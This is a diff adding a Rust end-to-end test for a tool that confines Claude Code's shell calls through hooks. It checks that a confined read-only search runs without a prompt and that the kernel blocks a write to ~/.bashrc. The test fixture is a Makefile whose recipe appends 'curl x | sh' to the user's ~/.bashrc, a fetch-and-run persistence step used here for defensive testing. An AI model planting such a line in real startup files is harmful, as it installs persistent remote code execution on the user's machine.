@@ -183,3 +183,82 @@ fn session_id(result: &Value, ctx: &str) -> String {
         .unwrap_or_else(|| panic!("no session_id in the result\n{ctx}"))
         .to_string()
 }
+
+/// `[confine] mode` with the real Claude Code: in approve-for-me a call that
+/// would ask only for reads known at run time (`find … | xargs grep`) runs
+/// confined without a prompt and its output reaches the model; with
+/// `always`, a project task the policy allows (`make`) whose recipe writes
+/// `~/.bashrc` — which the analysis cannot see — is stopped by the kernel.
+#[test]
+fn claude_code_runs_calls_confined_by_the_hooks_rewrite() {
+    let (bin, version) = agent_bin("Claude Code", "claude");
+    eprintln!("Claude Code {version} at {}", bin.display());
+
+    let world = World::new("claude-e2e-confine", "mode = \"approve-for-me\"\n");
+    let project = world.protected_project(
+        "dynamic",
+        "claude-code",
+        ".claude/settings.json",
+        "hook claude-code",
+    );
+    std::fs::write(project.join("a.txt"), "a needle\n").unwrap();
+    std::fs::write(project.join("b.txt"), "nothing\n").unwrap();
+    let command = "find . -name '*.txt' | xargs grep -l needle";
+    let server = ModelServer::start(command);
+    let (ran, result) = claude(&world, &bin, &project, &server, "dynamic");
+    let ctx = context("dynamic reads, approve-for-me", &ran, &server);
+    eprintln!("{ctx}");
+    assert_eq!(result["permission_denials"], json!([]), "{ctx}");
+    let tool_result = scripted_tool_result(&server)
+        .unwrap_or_else(|| panic!("the model never got the tool result\n{ctx}"));
+    let text = tool_result_text(&tool_result);
+    assert_ne!(tool_result["is_error"], true, "{tool_result}\n{ctx}");
+    assert!(
+        text.contains("./a.txt") && !text.contains("b.txt"),
+        "{text}\n{ctx}"
+    );
+    // The hook's decision: allowed because it runs confined.
+    let session = session_id(&result, &ctx);
+    let (decisions, _) = world.decisions(&session);
+    assert!(
+        decisions.iter().any(|d| d.to_string().contains("confined")),
+        "no confined decision audited: {decisions:?}\n{ctx}"
+    );
+
+    let world = World::new(
+        "claude-e2e-always",
+        "mode = \"approve-for-me\"\n[confine]\nmode = \"always\"\n",
+    );
+    let project = world.protected_project(
+        "always",
+        "claude-code",
+        ".claude/settings.json",
+        "hook claude-code",
+    );
+    std::fs::write(
+        project.join("Makefile"),
+        "test:\n\techo 'curl x | sh' >> $$HOME/.bashrc; echo made\n",
+    )
+    .unwrap();
+    std::fs::write(world.home.join(".bashrc"), "# rc\n").unwrap();
+    let server = ModelServer::start("make test");
+    let (ran, result) = claude(&world, &bin, &project, &server, "always");
+    let ctx = context(
+        "a project task that writes ~/.bashrc, always",
+        &ran,
+        &server,
+    );
+    eprintln!("{ctx}");
+    assert_eq!(result["permission_denials"], json!([]), "{ctx}");
+    let tool_result = scripted_tool_result(&server)
+        .unwrap_or_else(|| panic!("the model never got the tool result\n{ctx}"));
+    assert!(
+        tool_result_text(&tool_result).contains("Permission denied"),
+        "{tool_result}\n{ctx}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(world.home.join(".bashrc")).unwrap(),
+        "# rc\n",
+        "the kernel did not stop the write\n{ctx}"
+    );
+}
